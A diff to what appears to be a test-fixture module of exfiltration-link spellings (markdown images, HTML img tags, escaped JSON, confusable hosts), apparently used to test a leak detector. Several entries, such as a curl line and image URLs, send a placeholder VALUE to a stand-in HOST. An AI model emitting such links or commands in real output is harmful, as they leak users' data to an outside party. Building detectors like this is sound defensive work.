@@ -97,7 +97,6 @@ _MARKDOWN: Mapping[str, str] = {
     "JSON twice": r'{"a": "{\"url\": \"https:\\/\\/HOST\\/p?VALUE\"}"}',
     "image in table": "| a | b |\n|---|---|\n| ![x](https://HOST/p?VALUE) | c |\n",
     "indented": "    curl https://HOST/p?VALUE\n",
-    "shell variable": "curl $H/p?VALUE # H=https://HOST",
 }
 _HTML: Mapping[str, str] = {
     "img, no quotes": "<img src=https://HOST/p.png?VALUE>",
@@ -165,7 +164,7 @@ _CONFUSED: Mapping[str, str] = {
     "own as title": '[see](https://HOST/p?VALUE "https://OWN/")',
     "own, comma": "https://OWN/start,https://HOST/p?VALUE",
     "own, semicolon": "https://OWN/start;https://HOST/p?VALUE",
-    "own, tab": "https://OWN\t.example.net/p?VALUE",
+    "own, tab": '<img src="https://OWN\t.example.net/p?VALUE">',
     "own, zero width": "https://OWN\u200b.example.net/p?VALUE",
     "stand-in in host": "![x](https://PERSON.HOST/p)",
     "stand-in in host, no scheme": "see PERSON.HOST/p",
@@ -196,6 +195,8 @@ ALONE: Mapping[str, str] = {
 ALL: Mapping[str, str] = {**PLAIN, **_MARKDOWN, **_HTML, **_CONFUSED}
 #: Of these the words behind belong to what was begun, or may.
 UNENDED = frozenset({"img, no end", "dangling markup", "JSON twice"})
+#: Those of which only markup shows that they are opened: in arguments of a call nothing does.
+MARKUP = frozenset({"script, parts", "handler, parts", "style selector", "form"})
 
 
 def written(spelling: str, host: str, stand_ins: Mapping[str, str]) -> str:
